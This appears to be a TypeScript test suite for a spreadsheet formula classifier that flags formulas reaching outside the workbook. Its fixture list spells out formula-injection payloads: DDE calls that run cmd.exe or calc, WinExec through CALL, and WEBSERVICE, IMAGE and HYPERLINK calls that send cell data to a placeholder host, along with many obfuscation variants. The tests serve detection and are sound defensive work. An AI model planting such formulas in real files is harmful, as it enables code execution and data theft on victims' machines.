// What formulas reach outside of the workbook, in many disguises; and that texts and ordinary formulas are left alone.
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { judgeFormula, type FormulaVerdict } from '../../../src/contract/formula.ts';

const verdictOf = (formula: string): FormulaVerdict => judgeFormula(formula).verdict;

/** Each reaches outside; the first of a pair is the disguise. */
const DISGUISES: ReadonlyArray<readonly [formula: string, verdict: FormulaVerdict]> = [
  ['=WEBSERVICE("http://x/")', 'external_submit'],
  ['=webservice("http://x/")', 'external_submit'],
  ['=WebService  (A1)', 'external_submit'],
  ['=WEBSERVICE\n(A1)', 'external_submit'],
  ['=\r\n\tWEBSERVICE(A1)', 'external_submit'],
  ['  =WEBSERVICE(A1)', 'external_submit'],
  ['\u00a0=\u3000WEBSERVICE\u2003(A1)', 'external_submit'],
  ['+WEBSERVICE(A1)', 'external_submit'],
  ['-WEBSERVICE(A1)', 'external_submit'],
  ['@WEBSERVICE(A1)', 'external_submit'],
  ['=@WEBSERVICE(A1)', 'external_submit'],
  ['=-+-@WEBSERVICE(A1)', 'external_submit'],
  ['{=WEBSERVICE(A1)}', 'external_submit'],
  ['=_xlfn.WEBSERVICE(A1)', 'external_submit'],
  ['=_XLFN._xlws.WebService(A1)', 'external_submit'],
  ['=_xlfn.SINGLE(_xlfn.IMAGE(A1))', 'external_submit'],
  ['＝ＷＥＢＳＥＲＶＩＣＥ（Ａ１）', 'external_submit'],
  ['=ｗｅｂservice(A1)', 'external_submit'],
  ['=WEB\u200bSERVICE(A1)', 'external_submit'],
  ['=WEB\u00adSERVICE(A1)', 'external_submit'],
  ['\ufeff=WEBSERVICE(A1)', 'external_submit'],
  ['="a"&WEBSERVICE(A1)&"b"', 'external_submit'],
  ['="a""b"&WEBSERVICE(A1)&"""c"', 'external_submit'],
  [`="it's"&WEBSERVICE(A1)&"it's"`, 'external_submit'],
  [`='a"b'!A1&WEBSERVICE(A1)&'c"d'!A1`, 'external_submit'],
  ['=＂&WEBSERVICE(A1)&＂', 'external_submit'],
  ['=“a”&WEBSERVICE(A1)', 'external_submit'],
  [`='open&WEBSERVICE(A1)`, 'external_submit'],
  ['=Orders[a&WEBSERVICE(A1)', 'external_submit'],
  [`=Orders[It's]&WEBSERVICE(A1)&Orders[It's]`, 'external_submit'],
  ['=IF(FALSE,1,WEBSERVICE(A1))', 'external_submit'],
  ['=LET(f,WEBSERVICE,f(A1))', 'external_submit'],
  ['=MAP(A1:A3,_xleta.WEBSERVICE)', 'external_submit'],
  ['=LAMBDA(x,WEBSERVICE(x))(A1)', 'external_submit'],
  ['=SUM(1,2)+IMAGE("https://x/?"&A1)', 'external_submit'],
  ['=HYPERLINK("http://x/?"&A1,"Total")', 'external_submit'],
  ['=RTD("prog.id",,"topic")', 'external_submit'],
  ['=A1:RTD("prog.id",,"topic")', 'external_submit'],
  ['=STOCKHISTORY("MSFT",TODAY())', 'external_submit'],
  ['=CUBEVALUE("c","[Measures].[x]")', 'external_submit'],
  ['=cubeMember ("c","m")', 'external_submit'],
  ['=WEBDIENST(A1)', 'external_submit'],
  ['=ВЕБСЛУЖБА(A1)', 'external_submit'],
  ['=IMPORTXML(A1,"//x")', 'external_submit'],
  ['=[Book2.xlsx]Data!A1', 'external_submit'],
  ['=[1]!Rate', 'external_submit'],
  ['=SUM([Book2.xlsx]Jan:Mar!B2)', 'external_submit'],
  ['=Rates.xlsx!Rate', 'external_submit'],
  [`='[Book2.xlsx]My data'!A1`, 'external_submit'],
  [`='C:\\Users\\x\\[b.xlsx]S'!A1`, 'external_submit'],
  [`='\\\\server\\share\\[x.xlsx]S'!A1`, 'external_submit'],
  ['=\\\\server\\share\\[x.xlsx]S!A1', 'external_submit'],
  ['=C:\\data\\x.xlsx!Rate', 'external_submit'],
  [`='https://x.example/[b.xlsx]S'!A1`, 'external_submit'],
  [`='it''s [b.xlsx]S'!A1`, 'external_submit'],
  [`=INDIRECT("'[b.xlsx]S'!A1")`, 'external_submit'],
  [`=INDIRECT("'\\\\ser"&"ver\\s\\[b.xlsx]S'!A1")`, 'external_submit'],
  [`=cmd|'/c calc'!A0`, 'blocked_by_policy'],
  [`=cmd  |  '/c calc' ! A0`, 'blocked_by_policy'],
  [`=CMD|\n'/c calc'!A0`, 'blocked_by_policy'],
  [`+cmd|'/c calc'!A0`, 'blocked_by_policy'],
  [`@SUM(1+1)*cmd|' /C calc'!A0`, 'blocked_by_policy'],
  [`='cmd'|'/c calc'!'A0'`, 'blocked_by_policy'],
  [`='cmd|/c calc'!A0`, 'blocked_by_policy'],
  [`=cmd｜'/c calc'!A0`, 'blocked_by_policy'],
  [`="a"&MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''`, 'blocked_by_policy'],
  [`=IFERROR(1,rundll32|'url.dll,OpenURL x'!A)`, 'blocked_by_policy'],
  [`=INDIRECT("cmd|'/c calc'!A0")`, 'blocked_by_policy'],
  ['=DDE("soffice";"x";"y")', 'blocked_by_policy'],
  ['=CALL("Kernel32","WinExec","JCJ","calc",0)', 'blocked_by_policy'],
  ['=call (A1)', 'blocked_by_policy'],
  ['=REGISTER("x","y")', 'blocked_by_policy'],
  ['=register.id("x","y")', 'blocked_by_policy'],
  ['=_xlfn.REGISTER.ID("x","y")', 'blocked_by_policy'],
  ['=UNREGISTER(A1)', 'blocked_by_policy'],
  ['=EXEC("calc.exe")', 'blocked_by_policy'],
  ['=ＥＸＥＣ("calc.exe")', 'blocked_by_policy'],
  ['=WEBSERVICE(A1)&EXEC("calc.exe")', 'blocked_by_policy'],
  ['=SQL.REQUEST("DSN=x","","","select 1")', 'blocked_by_policy'],
  ['=MAP(A1:A3,CALL)', 'blocked_by_policy'],
  ['=RUN("macro")', 'blocked_by_policy'],
];

describe('formulas that reach outside', () => {
  it('has at least 40 of them', () => expect(DISGUISES.length).toBeGreaterThanOrEqual(40));

  it.each(DISGUISES)('[sheet.formula] %j: %s', (formula, verdict) => {
    const judged = judgeFormula(formula);
    expect(judged.verdict).toBe(verdict);
    expect(judged.reason === null).toBe(verdict === 'high');
  });

  it.each([
    '=B2+B3',
    '=SUM(A1:C3)*2',
    '=IF(A1="WEBSERVICE(x)","a|b","[Book2.xlsx]S!A1")',
    '="open&WEBSERVICE(A1)',
    '="=cmd|\'/c calc\'!A0"',
    '="say ""EXEC(1)"" twice"',
    "='My sheet'!A1+'Jan:Mar'!B2",
    "='WEBSERVICE'!A1",
    "='Cost (RTD)'!A1",
    '=Image!A1',
    '=Jan:Mar!A1',
    '=SUM(Orders[Amount (EUR)])',
    '=Orders[[#Totals],[WEBSERVICE]]',
    '=SUM(RTD:RTD)+RTD1+PY:PY',
    '=SUM([@Amount],[Rate])',
    '=R[1]C[-1]+R1C1',
    '=SUM(R[1]C:R[4]C)',
    '=Call*2+Request',
    '=LET(open,B2,close,B3,open-close)',
    '=INDIRECT("B"&A1)',
    '=SUM(INDIRECT("Orders[Amount]"))',
    '=TEXT(A1,"[h]:mm")&"\\"',
    '={1,2;3,4}',
    '=A1#',
    '=5%',
    '=MY.WEBSERVICE.RATE*2',
    '=WEBSERVICES(A1)',
    '=Données!A1&Größe',
  ])('[sheet.formula] %j is a formula like others', (formula) => {
    expect(judgeFormula(formula)).toMatchObject({ verdict: 'high', reason: null });
  });

  it.each(['', 'text', 'WEBSERVICE(A1)', '5', '-5', '+4.5e3', '-12%', 'a=b', "'=EXEC(1)"])(
    '[sheet.formula] %j is not a formula',
    (text) => expect(verdictOf(text)).toBe('harmless'),
  );

  it('[sheet.formula] follows names to what they point to, and says which', () => {
    const names: Record<string, string> = {
      RATE: '=Data!$A$1',
      FETCH: '=LAMBDA(u,WEBSERVICE(u))',
      VIA: '=Fetch',
      LOOP: '=Loop+Other',
      OTHER: '=LOOP',
      LINK: "=cmd|'/c calc'!A0",
      AWAY: "='[b.xlsx]S'!$A$1",
    };
    const judge = (formula: string): unknown => {
      const { verdict, reason } = judgeFormula(formula, (name) => names[name] ?? null);
      return [verdict, reason];
    };
    expect(judge('=Rate*2')).toEqual(['high', null]);
    expect(judge('=Fetch(A1)')).toEqual(['external_submit', 'WEBSERVICE, by the name FETCH']);
    expect(judge('=via(A1)')).toEqual(['external_submit', 'WEBSERVICE, by the name FETCH, by the name VIA']);
    expect(judge('=Loop')).toEqual(['high', null]);
    expect(judge('=SUM(Data!Link)')).toEqual(['blocked_by_policy', 'a DDE link, by the name LINK']);
    expect(judge('=Away')).toEqual(['external_submit', 'a reference to another file, by the name AWAY']);
    expect(judgeFormula('=Rate*sum(Fetch(A1),A2,TRUE,3e5)').names).toEqual(['RATE', 'SUM', 'FETCH']);
  });

  const blank = fc.constantFrom('', ' ', '\n', '\t', '\u00a0', '\u3000', ' \r\n ');
  const outside = fc.constantFrom('WEBSERVICE', 'IMAGE', 'HYPERLINK', 'RTD', 'STOCKHISTORY', 'CUBESET', 'EXEC', 'CALL');
  const spelling = (name: string): fc.Arbitrary<string> =>
    fc
      .array(fc.constantFrom('upper', 'lower', 'wide', 'hidden'), { minLength: name.length, maxLength: name.length })
      .map((kinds) =>
        [...name]
          .map((letter, at) => {
            if (kinds[at] === 'lower') return letter.toLowerCase();
            if (kinds[at] === 'wide') return String.fromCodePoint(letter.charCodeAt(0) + 0xfee0);
            return kinds[at] === 'hidden' ? `\u200d${letter}` : letter;
          })
          .join(''),
      );
  const around = fc.constantFrom('', '"x"&', "'a b'!A1+", 'Orders[x]+', '-', '@', '{1}+', '"a""b"&', "'it''s'!B2&");

  it('[sheet.formula] finds a function however it is spelt, and wherever it is', () => {
    const disguised = outside.chain((name) =>
      fc.tuple(fc.constant(name), spelling(name), blank, around, around, blank),
    );
    fc.assert(
      fc.property(disguised, ([name, spelt, gap, before, after, lead]) => {
        const formula = `${lead}=${lead}${before}${spelt}${gap}(A1)&${after}1`;
        expect([formula, verdictOf(formula)]).toEqual([
          formula,
          name === 'EXEC' || name === 'CALL' ? 'blocked_by_policy' : 'external_submit',
        ]);
      }),
      { numRuns: 2000 },
    );
  });

  it('[sheet.formula] never finds what is in a quoted text, whatever the text is', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom("cmd|'x'!A", 'EXEC(1)', '[b]S!A1')),
        (text) => {
          expect(verdictOf(`=A1&"${text.normalize('NFKC').replaceAll('"', '""')}"&B1`)).toBe('high');
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('[sheet.formula] judges any text, and a longer formula never lower', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), fc.constantFrom(...DISGUISES), (tail, [formula]) => {
        const { verdict } = judgeFormula(`=${tail}`);
        expect(['high', 'external_submit', 'blocked_by_policy', 'harmless']).toContain(verdict);
        if (verdictOf(formula) === 'blocked_by_policy')
          expect(verdictOf(`${formula}&"${tail}`)).toBe('blocked_by_policy');
      }),
      { numRuns: 1000 },
    );
  });
});
